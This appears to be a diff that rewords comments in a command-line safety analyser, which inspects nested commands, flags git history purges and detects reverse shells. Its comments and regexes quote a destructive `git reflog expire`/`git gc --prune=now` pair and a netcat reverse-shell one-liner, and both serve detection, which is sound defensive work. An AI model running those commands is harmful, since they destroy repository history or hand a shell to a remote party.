@@ -76,7 +76,7 @@ function createAnalysis(facts: Facts, budget: Budget): Analysis {
 	return analysis;
 }
 
-/** Wrappers inside wrappers are limited by the same nesting depth as command lines. */
+/** Judges a command inside a command. Wrappers inside wrappers have the same limit on nesting as command lines. */
 function runWords(words: readonly Word[], run: Run, analysis: Analysis): Stream {
 	if (analysis.budget.depth <= 0) {
 		addOpaque(analysis, '…', 'the command line is nested too deeply to be inspected');
@@ -116,12 +116,12 @@ function readText(text: string, analysis: Analysis): ParsedScript | undefined {
 }
 
 function hasManyOpeners(text: string): boolean {
-	// Each opener has at least two characters.
+	// Each opener has at least two characters, so a short text cannot contain too many.
 	if (text.length <= 2 * limits.openers) return false;
 	return (text.match(/<<|\$[({[]/g)?.length ?? 0) > limits.openers;
 }
 
-/** Returns whether the parser, which tolerates errors, left text unread that is neither blank nor a comment. */
+/** Returns whether the unread rest contains more than blanks and comments. The parser tolerates errors, so it may stop early. */
 function leavesText(behind: string): boolean {
 	const rest = behind.replace(/^[\s;&]+/, '');
 	return rest !== '' && !rest.split('\n').every((line) => /^\s*(#|$)/.test(line));
@@ -131,8 +131,8 @@ const forgets = /\breflog\b.* expire\b.*--expire(-unreachable)?[= ](now|all)\b|\
 const collects = /\bgc\b.*--prune[= ](now|all)\b|\bprune\b(?!.*--expire)|\bprune\b.*--expire[= ](now|all)\b/;
 
 /**
- * `git reflog expire --expire=now --all && git gc --prune=now`: after one of the two commands, git can still restore commits. Both together
- * destroy them.
+ * `git reflog expire --expire=now --all && git gc --prune=now`: after only one of the two commands, git can still restore commits. Both
+ * commands together destroy the commits.
  */
 function namePurges(parts: readonly Part[]): readonly Part[] {
 	const first = parts.findIndex((part) => drops(part, forgets));
@@ -148,13 +148,13 @@ function drops({ effects, argv = [] }: Part, pattern: RegExp): boolean {
 	return effects.some(({ kind }) => kind === 'git.rewrite') && pattern.test(argv.join(' ').slice(0, 1_000));
 }
 
-/** Reasons of effects that run something from elsewhere. */
+/** The reasons of effects that run text from the input or from another machine. */
 const executesInput =
 	/^(it executes what it is fed|a command line that cannot be known|which program runs cannot be known|fetched code)/;
 
 /**
- * Finds a shell whose input or output is a network connection, through a pipe, a named pipe or a descriptor (`mkfifo f; sh <f | nc h 1
- * >f`). No single command shows this. Adds the finding to each part with a connection.
+ * Finds a shell whose input or output is a network connection, through a pipe, a named pipe or a descriptor
+ * (`mkfifo f; sh <f | nc h 1 >f`). No single command shows this. Adds the finding to each part with a connection.
  */
 function nameReverseShells(parts: readonly Part[]): readonly Part[] {
 	const isConnected = (part: Part) =>
